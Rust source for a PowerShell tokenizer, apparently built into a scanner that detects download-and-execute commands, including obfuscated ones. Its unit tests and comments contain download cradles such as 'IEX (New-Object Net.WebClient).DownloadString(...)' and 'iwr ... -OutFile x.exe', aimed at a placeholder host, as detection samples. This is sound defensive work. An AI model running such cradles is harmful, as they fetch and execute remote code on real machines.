//! PowerShell tokenizer: statements end at newlines, `;` and braces;
//! pipelines at `|`; `'…'` (with `''`), `"…"` (with backtick escapes) and
//! here-strings are words; `(…)`, `$(…)` and `@(…)` stay inside their word;
//! `#` and `<#…#>` comments and backtick line continuations are removed.
//! Simple `$name = "value"` assignments are recorded for the rules.

use super::{Cmd, MAX_COMMANDS, Pipeline, Redir, Script, shown};

/// Parse PowerShell text.
pub fn parse(src: &str, first_line: usize) -> Script {
    parse_at(src, first_line, 0)
}

/// Parse at a nesting depth (commands in parentheses are parsed again,
/// at most 8 levels deep).
fn parse_at(src: &str, first_line: usize, depth: usize) -> Script {
    let b = src.as_bytes();
    let mut script = Script::default();
    let mut pipe = Pipeline::default();
    let mut i = 0;
    let mut line = first_line;
    let mut count = 0usize;
    // Per open brace: the value `$_` stands for in that block, when the
    // block is a ForEach-Object / Where-Object script block fed a URL.
    let mut feeds: Vec<Option<String>> = Vec::new();
    while i < b.len() && count < MAX_COMMANDS {
        match b[i] {
            b' ' | b'\t' | b'\r' => i += 1,
            b'`' if b.get(i + 1) == Some(&b'\n') => {
                i += 2;
                line += 1;
            }
            b'\n' | b';' | b'{' | b'}' => {
                match b[i] {
                    b'\n' => line += 1,
                    b'{' if feeds.len() < 64 => feeds.push(piped_url(&pipe)),
                    b'}' => {
                        feeds.pop();
                    }
                    _ => {}
                }
                i += 1;
                if !pipe.cmds.is_empty() {
                    script.pipelines.push(std::mem::take(&mut pipe));
                }
            }
            b'|' => {
                i += if b.get(i + 1) == Some(&b'|') { 2 } else { 1 };
            }
            b'&' if b.get(i + 1) == Some(&b'&') => {
                i += 2;
                if !pipe.cmds.is_empty() {
                    script.pipelines.push(std::mem::take(&mut pipe));
                }
            }
            b'#' => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'<' if b.get(i + 1) == Some(&b'#') => {
                let end = memchr::memmem::find(&b[i..], b"#>")
                    .map(|n| i + n + 2)
                    .unwrap_or(b.len());
                line += memchr::memchr_iter(b'\n', &b[i..end]).count();
                i = end;
            }
            _ => {
                let (mut cmd, end, nl) = command(src, i, line, depth);
                i = end.max(i + 1);
                line += nl;
                if let Some(Some(url)) = feeds.iter().rev().find(|f| f.is_some()) {
                    feed_input(&mut cmd, url, 0);
                }
                if !cmd.argv.is_empty() {
                    count += 1;
                    pipe.cmds.push(cmd);
                }
            }
        }
    }
    if !pipe.cmds.is_empty() {
        script.pipelines.push(pipe);
    }
    script
}

/// The URL a pipeline ending in `%` / `ForEach-Object` / `?` /
/// `Where-Object` hands its script block (`"http://h/x" | % { irm $_ }`).
fn piped_url(pipe: &Pipeline) -> Option<String> {
    let (last, up) = pipe.cmds.split_last()?;
    let name = last.argv.first()?.to_ascii_lowercase();
    if !matches!(
        name.as_str(),
        "%" | "foreach-object" | "foreach" | "?" | "where-object" | "where"
    ) {
        return None;
    }
    up.iter()
        .flat_map(|c| &c.argv)
        .find(|w| w.contains("://") && !w.contains(' '))
        .cloned()
}

/// `$_` / `$PSItem` in a command (and the commands in its parentheses)
/// replaced by the value the script block is fed.
fn feed_input(cmd: &mut Cmd, url: &str, depth: usize) {
    for w in &mut cmd.argv {
        if w.eq_ignore_ascii_case("$_") || w.eq_ignore_ascii_case("$psitem") {
            *w = url.to_string();
        }
    }
    if depth < 8 {
        for sub in &mut cmd.subs {
            for p in &mut sub.pipelines {
                for c in &mut p.cmds {
                    feed_input(c, url, depth + 1);
                }
            }
        }
    }
}

/// One command from byte `i` on line `line`: (command, end, newlines crossed).
fn command(src: &str, mut i: usize, line: usize, depth: usize) -> (Cmd, usize, usize) {
    let b = src.as_bytes();
    let start = i;
    let mut nl = 0;
    let mut cmd = Cmd {
        line,
        ..Default::default()
    };
    while i < b.len() {
        while i < b.len() && matches!(b[i], b' ' | b'\t' | b'\r') {
            i += 1;
        }
        if b.get(i) == Some(&b'`') && b.get(i + 1) == Some(&b'\n') {
            i += 2;
            nl += 1;
            continue;
        }
        if i >= b.len()
            || matches!(b[i], b'\n' | b';' | b'|' | b'{' | b'}' | b'#')
            || b[i] == b'&' && b.get(i + 1) == Some(&b'&')
        {
            break;
        }
        if b[i] == b'>' || (b[i].is_ascii_digit() && b.get(i + 1) == Some(&b'>')) {
            let mut j = i;
            while j < b.len() && (b[j] == b'>' || b[j].is_ascii_digit()) {
                j += 1;
            }
            let op = src[i..j].to_string();
            while j < b.len() && matches!(b[j], b' ' | b'\t') {
                j += 1;
            }
            let (w, end, n) = word(src, j);
            nl += n;
            i = end.max(j + 1).min(b.len());
            if !op.starts_with('2') {
                cmd.redirs.push(Redir { op, target: w });
            }
            continue;
        }
        let (w, end, n) = word(src, i);
        nl += n;
        i = end.max(i + 1).min(b.len());
        cmd.argv.push(w);
    }
    // `&(…)` / `.(…)` glued: the call operator, then what it calls.
    if let Some(first) = cmd.argv.first()
        && (first.starts_with("&(") || first.starts_with(".("))
    {
        let called = first[1..].to_string();
        cmd.argv[0].truncate(1);
        cmd.argv.insert(1, called);
    }
    let raw = &src[start..i.min(b.len())];
    cmd.text = shown(raw);
    assignments(&mut cmd);
    paren_subs(raw, line, depth, &mut cmd.subs);
    (cmd, i, nl)
}

/// `$name = "literal"`, `[type]$name = …`, `$a = $b + '\x.exe'` (the parts
/// joined), and `param([string]$Name = 'default', …)` defaults.
fn assignments(cmd: &mut Cmd) {
    if let Some(block) = cmd
        .argv
        .first()
        .filter(|w| w.to_ascii_lowercase().starts_with("param("))
    {
        let defaults: Vec<(String, String)> = block[6..]
            .trim_end_matches(')')
            .split(',')
            .filter_map(|part| {
                let (lhs, v) = part.split_once('=')?;
                let name = lhs.trim().rsplit('$').next()?;
                let ok = !name.is_empty()
                    && name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_');
                ok.then(|| (name.to_ascii_lowercase(), v.trim().to_string()))
            })
            .collect();
        cmd.assigns.extend(defaults);
        return;
    }
    split_glued_assignment(&mut cmd.argv);
    if cmd.argv.len() < 3 || cmd.argv[1] != "=" {
        return;
    }
    let lhs = cmd.argv[0].trim_start_matches(|c| c != '$');
    let Some(name) = lhs.strip_prefix('$') else {
        return;
    };
    let parts = &cmd.argv[2..];
    // `$p = -join ('c','u','r','l')`, `$n = [char]105+[char]119+…`: built from literals.
    let built = cmd
        .text
        .split_once('=')
        .and_then(|(_, rhs)| super::psexpr::eval(rhs));
    let value = if let Some(v) = built {
        v
    } else if parts.len() > 1 && parts.iter().skip(1).step_by(2).all(|p| p == "+") {
        parts.iter().step_by(2).cloned().collect::<String>()
    } else {
        parts[0].clone()
    };
    cmd.assigns.push((name.to_ascii_lowercase(), value));
}

/// `$r=iwr …` and `$r =iwr …` as `$r`, `=`, `iwr`, …: the operator
/// needs no spaces around it.
fn split_glued_assignment(argv: &mut Vec<String>) {
    let Some(first) = argv.first() else {
        return;
    };
    let is_var = |w: &str| {
        w.len() > 1
            && w[1..]
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b':')
    };
    if let Some((lhs, rhs)) = first.split_once('=')
        && !rhs.starts_with('=')
        && lhs.starts_with(['$', '['])
        && is_var(lhs.trim_start_matches(|c| c != '$'))
    {
        let (lhs, rhs) = (lhs.to_string(), rhs.to_string());
        let mut out = vec![lhs, "=".to_string()];
        if !rhs.is_empty() {
            out.push(rhs);
        }
        out.extend(argv.drain(1..));
        *argv = out;
        return;
    }
    if argv.len() >= 2
        && first.starts_with(['$', '['])
        && let Some(rhs) = argv[1].strip_prefix('=')
        && !rhs.is_empty()
        && !rhs.starts_with('=')
    {
        let rhs = rhs.to_string();
        argv[1] = "=".to_string();
        argv.insert(2, rhs);
    }
}

/// Commands inside parentheses (`(iwr …).Content`, `[xml](irm …)`,
/// `[scriptblock]::Create((irm …))`, `$(…)`), parsed as nested scripts;
/// groups that hold an expression are searched for groups inside.
fn paren_subs(text: &str, line: usize, depth: usize, subs: &mut Vec<Script>) {
    if depth > 8 || !text.contains('(') {
        return;
    }
    let b = text.as_bytes();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            q @ (b'\'' | b'"') => {
                i = memchr::memchr(q, &b[i + 1..])
                    .map(|n| i + n + 2)
                    .unwrap_or(b.len());
            }
            b'(' => {
                let mut d = 0usize;
                let mut j = i;
                while j < b.len() {
                    match b[j] {
                        b'(' => d += 1,
                        b')' => {
                            d -= 1;
                            if d == 0 {
                                break;
                            }
                        }
                        _ => {}
                    }
                    j += 1;
                }
                let inner = text[i + 1..j.min(b.len())].trim();
                // A command, or a pipeline starting from a value
                // (`("http://h/x" | % { irm $_ })`).
                let command_like = inner
                    .bytes()
                    .next()
                    .is_some_and(|c| c.is_ascii_alphabetic() || c == b'&')
                    || inner.starts_with(['"', '\'', '$', '@']) && inner.contains('|');
                if command_like && subs.len() < 64 {
                    subs.push(parse_at(inner, line, depth + 1));
                } else {
                    paren_subs(inner, line, depth + 1, subs);
                }
                i = j + 1;
            }
            _ => i += 1,
        }
    }
}

/// One word from byte `i`: (text with quotes removed, end, newlines crossed).
fn word(src: &str, mut i: usize) -> (String, usize, usize) {
    let b = src.as_bytes();
    let mut out = String::new();
    let mut nl = 0;
    let mut depth = 0usize;
    while i < b.len() {
        let c = b[i];
        if depth == 0
            && matches!(
                c,
                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'|' | b'{' | b'}' | b'>'
            )
        {
            break;
        }
        match c {
            b'@' if matches!(b.get(i + 1), Some(b'"') | Some(b'\''))
                && b.get(i + 2) == Some(&b'\n') =>
            {
                // Here-string: up to a line starting with "@ or '@.
                let close = [b'\n', b[i + 1], b'@'];
                let end = memchr::memmem::find(&b[i + 2..], &close)
                    .map(|n| i + 2 + n)
                    .unwrap_or(b.len());
                out.push_str(&src[(i + 3).min(end)..end]);
                nl += memchr::memchr_iter(b'\n', &b[i..end]).count() + 1;
                i = (end + 3).min(b.len());
            }
            b'\'' | b'"' => i = quoted(src, i, &mut out, &mut nl),
            b'`' if i + 1 < b.len() => {
                let ch = src[i + 1..].chars().next().unwrap_or(' ');
                out.push(ch);
                i += 1 + ch.len_utf8();
            }
            b'(' | b')' => {
                depth = if c == b'(' {
                    depth + 1
                } else {
                    depth.saturating_sub(1)
                };
                out.push(c as char);
                i += 1;
            }
            b'\n' => {
                nl += 1;
                out.push(' ');
                i += 1;
            }
            _ => {
                let ch = src[i..].chars().next().unwrap_or(' ');
                out.push(ch);
                i += ch.len_utf8();
            }
        }
    }
    (out, i.min(b.len()), nl)
}

/// A quoted string at byte `i` (`'…'` with `''`, `"…"` with backtick
/// escapes) appended to `out`; returns the index past its closing quote.
fn quoted(src: &str, mut i: usize, out: &mut String, nl: &mut usize) -> usize {
    let b = src.as_bytes();
    let q = b[i];
    i += 1;
    while i < b.len() {
        if b[i] == q {
            if q == b'\'' && b.get(i + 1) == Some(&b'\'') {
                out.push('\'');
                i += 2;
                continue;
            }
            break;
        }
        if q == b'"' && b[i] == b'`' && i + 1 < b.len() {
            i += 1;
        }
        if b[i] == b'\n' {
            *nl += 1;
        }
        let ch = src[i..].chars().next().unwrap_or(' ');
        out.push(ch);
        i += ch.len_utf8();
    }
    i + 1
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn statements_and_words() {
        let s = parse(
            "$u = \"http://h/x\"\nIEX (New-Object Net.WebClient).DownloadString('http://h/y') # c\niwr -Uri $u -OutFile x.exe | Out-Null\n<# block\n#> Start-BitsTransfer -Source a\n",
            1,
        );
        let c: Vec<&Cmd> = s.pipelines.iter().flat_map(|p| &p.cmds).collect();
        assert_eq!(c[0].assigns, [("u".to_string(), "http://h/x".to_string())]);
        assert_eq!(c[1].argv[0], "IEX");
        assert_eq!(
            c[1].argv[1],
            "(New-Object Net.WebClient).DownloadString(http://h/y)"
        );
        assert_eq!(c[2].argv, ["iwr", "-Uri", "$u", "-OutFile", "x.exe"]);
        assert_eq!(c[2].line, 3);
        assert_eq!(c[3].argv[0], "Out-Null");
        assert_eq!(c[4].argv[0], "Start-BitsTransfer");
        assert_eq!(c[4].line, 5);
    }

    #[test]
    fn param_defaults_are_named_variables_only() {
        // `Mandatory=$true` inside an attribute is no default: only `$Out`
        // (a variable name) gets one, its quotes removed.
        let s = parse(
            "param([Parameter(Mandatory=$true)][string]$Url, [string]$Out = 'C:\\Temp\\a.exe')\n",
            1,
        );
        let c = &s.pipelines[0].cmds[0];
        assert_eq!(
            c.assigns,
            [("out".to_string(), "C:\\Temp\\a.exe".to_string())]
        );
    }

    // Round 11: the limits hostile input meets, each at its boundary.

    #[test]
    fn at_most_64_command_groups_per_statement_are_parsed() {
        let groups: String = (0..65).map(|n| format!(" (Get-Item a{n})")).collect();
        let s = parse(&format!("Write-Output{groups}\n"), 1);
        let c = &s.pipelines[0].cmds[0];
        assert_eq!(c.subs.len(), 64);
        assert_eq!(c.subs[63].pipelines[0].cmds[0].argv, ["Get-Item", "a63"]);
    }

    #[test]
    fn at_most_64_open_blocks_carry_a_piped_url() {
        // The URL fed to `%` stands for `$_` inside its block and the
        // blocks nested in it …
        let s = parse("'http://h/x' | % { if (1) { iwr $_ } }\n", 1);
        let c: Vec<&Cmd> = s.pipelines.iter().flat_map(|p| &p.cmds).collect();
        assert!(c.iter().any(|c| c.argv == ["iwr", "http://h/x"]), "{c:?}");
        // … but only 64 open blocks are tracked: after 65 opened and 64
        // closed, the `%` block's URL is no longer known.
        let deep = format!(
            "'http://h/x' | % {{ {}{} iwr $_ }}\n",
            "if (1) { ".repeat(64),
            "} ".repeat(64)
        );
        let s = parse(&deep, 1);
        let c: Vec<&Cmd> = s.pipelines.iter().flat_map(|p| &p.cmds).collect();
        assert!(c.iter().any(|c| c.argv == ["iwr", "$_"]), "{c:?}");
    }
}
